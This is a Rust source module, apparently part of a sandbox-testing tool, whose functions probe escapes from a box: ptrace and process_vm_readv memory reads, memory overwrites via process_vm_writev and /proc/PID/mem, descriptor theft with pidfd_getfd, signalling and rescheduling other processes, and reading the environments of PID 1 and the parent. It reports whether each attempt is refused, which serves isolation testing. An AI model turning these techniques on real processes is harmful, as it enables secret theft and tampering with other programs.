//! Attacks on processes outside of the box, above all the planted victim.

use alloc::ffi::CString;
use alloc::format;
use alloc::vec::Vec;

use crate::arguments::Arguments;
use crate::posture::shares_numbers;
use crate::{Attack, nr, report, sys};

pub const ATTACKS: &[Attack] = &[
    ("trace", trace),
    ("read-memory", read_memory),
    ("write-memory", write_memory),
    ("memory-file", memory_file),
    ("list-processes", list_processes),
    ("steal-descriptor", steal_descriptor),
    ("open-descriptor", open_descriptor),
    ("compare", compare),
    ("signal", signal),
    ("steer", steer),
    ("supervisor", supervisor),
    ("environment", environment),
    ("parent-environment", parent_environment),
    ("parent-memory", parent_memory),
];

/// A path below `/proc`.
pub fn proc_path(rest: core::fmt::Arguments<'_>) -> CString {
    CString::new(format!("/proc/{rest}")).unwrap_or_default()
}

/// `trace PID ADDRESS LENGTH`: attaches as a debugger and reads memory word by word.
fn trace(arguments: Arguments) {
    const PTRACE_PEEKDATA: usize = 2;
    const PTRACE_ATTACH: usize = 16;
    const PTRACE_DETACH: usize = 17;
    const ANY_KIND_OF_CHILD: usize = 0x4000_0000;
    let (pid, address, length) = (arguments.number(0), arguments.number(1), arguments.number(2));
    if !report::success("ptrace attach", sys::call(nr::PTRACE, &[PTRACE_ATTACH, pid])) {
        return;
    }
    let mut status = 0i32;
    let _ = sys::call(nr::WAIT4, &[pid, &raw mut status as usize, ANY_KIND_OF_CHILD]);
    let mut bytes = Vec::new();
    for offset in (0..length).step_by(8) {
        let mut word = 0usize;
        let _ = sys::call(nr::PTRACE, &[PTRACE_PEEKDATA, pid, address + offset, &raw mut word as usize]);
        bytes.extend_from_slice(&word.to_ne_bytes());
    }
    report::content("traced memory", &bytes);
    let _ = sys::call(nr::PTRACE, &[PTRACE_DETACH, pid]);
}

/// `read-memory PID ADDRESS LENGTH`: copies it over with one call.
fn read_memory(arguments: Arguments) {
    let (pid, address, length) = (arguments.number(0), arguments.number(1), arguments.number(2).min(4096));
    let mut buffer = [0u8; 4096];
    let local = [buffer.as_mut_ptr() as usize, length];
    let remote = [address, length];
    let result = sys::call(nr::PROCESS_VM_READV, &[pid, local.as_ptr() as usize, 1, remote.as_ptr() as usize, 1, 0]);
    match result {
        Ok(count) => report::content("process_vm_readv", &buffer[..count.min(length)]),
        Err(errno) => report::refused("process_vm_readv", errno),
    }
}

/// `write-memory PID ADDRESS`: overwrites the victim's secret.
fn write_memory(arguments: Arguments) {
    let (pid, address) = (arguments.number(0), arguments.number(1));
    let local = [b"changed".as_ptr() as usize, 7];
    let remote = [address, 7];
    let result = sys::call(nr::PROCESS_VM_WRITEV, &[pid, local.as_ptr() as usize, 1, remote.as_ptr() as usize, 1, 0]);
    report::success("process_vm_writev", result);
}

/// `memory-file PID ADDRESS LENGTH`: reads and overwrites the same through `/proc/PID/mem`.
fn memory_file(arguments: Arguments) {
    let (address, length) = (arguments.number(1), arguments.number(2).min(4096));
    let path = proc_path(format_args!("{}/mem", arguments.number(0)));
    let file = match sys::open(&path, sys::O_RDWR, 0) {
        Ok(file) => file,
        Err(errno) => return report::refused("open /proc/PID/mem", errno),
    };
    let mut buffer = [0u8; 4096];
    match sys::call(nr::PREAD64, &[file as usize, buffer.as_mut_ptr() as usize, length, address]) {
        Ok(count) => report::content("/proc/PID/mem", &buffer[..count.min(length)]),
        Err(errno) => report::refused("read /proc/PID/mem", errno),
    }
    let changed = b"changed";
    let written = sys::call(nr::PWRITE64, &[file as usize, changed.as_ptr() as usize, changed.len(), address]);
    report::success("write /proc/PID/mem", written);
}

/// `list-processes`: looks for a planted word in the command lines of all processes that can be seen.
fn list_processes(_: Arguments) {
    for pid in numbers_in(c"/proc") {
        if let Ok(line) = sys::read_file(&proc_path(format_args!("{pid}/cmdline")), 4096)
            && line.windows(7).any(|word| word == b"CANARY-")
        {
            report::content(format_args!("command line of {pid}"), &line);
        }
    }
}

/// The names in a directory that are numbers.
pub fn numbers_in(directory: &core::ffi::CStr) -> Vec<usize> {
    let mut numbers = Vec::new();
    let Ok(fd) = sys::open(directory, sys::O_RDONLY, 0) else { return numbers };
    let mut buffer = [0u8; 4096];
    while let Ok(length @ 1..) = sys::call(nr::GETDENTS64, &[fd as usize, buffer.as_mut_ptr() as usize, buffer.len()]) {
        // An entry: inode and offset (8 bytes each), its length (2), a type (1), the name.
        let mut entries = &buffer[..length.min(buffer.len())];
        while let [_, _, _, _, _, _, _, _, _, _, _, _, _, _, _, _, low, high, _, name @ ..] = entries {
            let name = name.split(|byte| *byte == 0).next().unwrap_or_default();
            numbers.extend(core::str::from_utf8(name).ok().and_then(|name| name.parse::<usize>().ok()));
            let size = usize::from(u16::from_ne_bytes([*low, *high]));
            entries = entries.get(size.max(1)..).unwrap_or_default();
        }
    }
    sys::close(fd);
    numbers
}

/// `steal-descriptor PID FD`: copies another process's descriptor and reads from it.
fn steal_descriptor(arguments: Arguments) {
    let process = match sys::call(nr::PIDFD_OPEN, &[arguments.number(0), 0]) {
        Ok(process) => process,
        Err(errno) => return report::refused("pidfd_open", errno),
    };
    match sys::call(nr::PIDFD_GETFD, &[process, arguments.number(1), 0]) {
        Ok(stolen) => read_once("pidfd_getfd", stolen as sys::Fd),
        Err(errno) => report::refused("pidfd_getfd", errno),
    }
}

/// `open-descriptor PID FD`: opens another process's pipe by its name in `/proc`.
fn open_descriptor(arguments: Arguments) {
    let path = proc_path(format_args!("{}/fd/{}", arguments.number(0), arguments.number(1)));
    match sys::open(&path, sys::O_RDONLY | sys::O_NONBLOCK, 0) {
        Ok(pipe) => read_once("/proc/PID/fd", pipe),
        Err(errno) => report::refused("open /proc/PID/fd", errno),
    }
}

/// Reads what is there now: a pipe has no end while its writer lives.
fn read_once(what: &str, fd: sys::Fd) {
    let mut buffer = [0; 512];
    match sys::read(fd, &mut buffer) {
        Ok(count) => report::content(what, &buffer[..count.min(buffer.len())]),
        Err(errno) => report::refused(what, errno),
    }
}

/// `compare PID`: asks the kernel whether it shares its memory with another process.
fn compare(arguments: Arguments) {
    const KCMP_VM: usize = 1;
    let own = sys::call(nr::GETPID, &[]).unwrap_or(0);
    report::success("kcmp", sys::call(nr::KCMP, &[arguments.number(0), own, KCMP_VM]));
}

/// `signal HOW PID SIGNAL`
fn signal(arguments: Arguments) {
    let (pid, signal) = (arguments.number(1), arguments.number(2));
    // Number, error, and SI_QUEUE, which a process may claim.
    let mut information = [0i32; 32];
    (information[0], information[2]) = (signal as i32, -1);
    let sent = match arguments.text(0) {
        b"kill" => sys::call(nr::KILL, &[pid, signal]),
        b"tgkill" => sys::call(nr::TGKILL, &[pid, pid, signal]),
        b"rt_sigqueueinfo" => sys::call(nr::RT_SIGQUEUEINFO, &[pid, signal, information.as_ptr() as usize]),
        _ => sys::call(nr::PIDFD_OPEN, &[pid, 0])
            .and_then(|process| sys::call(nr::PIDFD_SEND_SIGNAL, &[process, signal, 0, 0])),
    };
    if report::success(arguments.display(0), sent) {
        // Until it shows, so that whoever looks at the victim next sees it.
        for _ in 0..200 {
            let state = sys::read_file(&proc_path(format_args!("{pid}/stat")), 512).unwrap_or_default();
            if [b" T ", b" Z ", b" X "].iter().any(|ended| state.windows(3).any(|part| part == *ended)) {
                break;
            }
            sys::sleep_ms(2);
        }
    }
}

/// `steer WHAT PID`: changes how another process is scheduled or limited.
fn steer(arguments: Arguments) {
    const PRIO_PROCESS: usize = 0;
    const IOPRIO_WHO_PROCESS: usize = 1;
    const IDLE_CLASS: usize = 3 << 13;
    const RLIMIT_NOFILE: usize = 7;
    let pid = arguments.number(1);
    let result = match arguments.text(0) {
        b"setpriority" => sys::call(nr::SETPRIORITY, &[PRIO_PROCESS, pid, 19]),
        b"sched_setaffinity" => {
            let first_processor = [1usize];
            sys::call(nr::SCHED_SETAFFINITY, &[pid, 8, first_processor.as_ptr() as usize])
        }
        b"ioprio_set" => sys::call(nr::IOPRIO_SET, &[IOPRIO_WHO_PROCESS, pid, IDLE_CLASS]),
        _ => {
            let few = [64usize, 64];
            sys::call(nr::PRLIMIT64, &[pid, RLIMIT_NOFILE, few.as_ptr() as usize, 0])
        }
    };
    report::success(arguments.display(0), result);
}

/// `supervisor PID HOST-NAMESPACE`: whether the process that made the box exists for this one.
fn supervisor(arguments: Arguments) {
    let pid = arguments.number(0);
    if !shares_numbers(arguments.text(1)) {
        // The number may well be that of somebody in here.
        return report::refused("a process by its number", sys::ESRCH);
    }
    report::success("kill with no signal", sys::call(nr::KILL, &[pid, 0]));
    report::success("getpgid", sys::call(nr::GETPGID, &[pid]));
    if sys::call(nr::GETPPID, &[]) == Ok(pid) {
        report::reached("parent", "it is the supervisor");
    }
}

fn environment(_: Arguments) {
    variables(c"/proc/self/environ");
}

/// The environments of the processes above this one.
fn parent_environment(_: Arguments) {
    variables(c"/proc/1/environ");
    variables(&proc_path(format_args!("{}/environ", parent())));
}

fn variables(path: &core::ffi::CStr) {
    match sys::read_file(path, 1 << 17) {
        Ok(bytes) => {
            for variable in bytes.split(|byte| *byte == 0).filter_map(|text| core::str::from_utf8(text).ok()) {
                report::line(format_args!("variable {variable}"));
            }
        }
        Err(errno) => report::refused(format_args!("open {}", path.to_str().unwrap_or_default()), errno),
    }
}

fn parent() -> usize {
    sys::call(nr::GETPPID, &[]).unwrap_or(0)
}

/// Whether the memory and the descriptors of the parent are open to this process.
fn parent_memory(_: Arguments) {
    let memory = sys::open(&proc_path(format_args!("{}/mem", parent())), sys::O_RDONLY, 0);
    report::success("open /proc/PARENT/mem", memory.map(|fd| fd as usize));
    let descriptors = sys::open(&proc_path(format_args!("{}/fd", parent())), sys::O_RDONLY, 0);
    report::success("open /proc/PARENT/fd", descriptors.map(|fd| fd as usize));
}
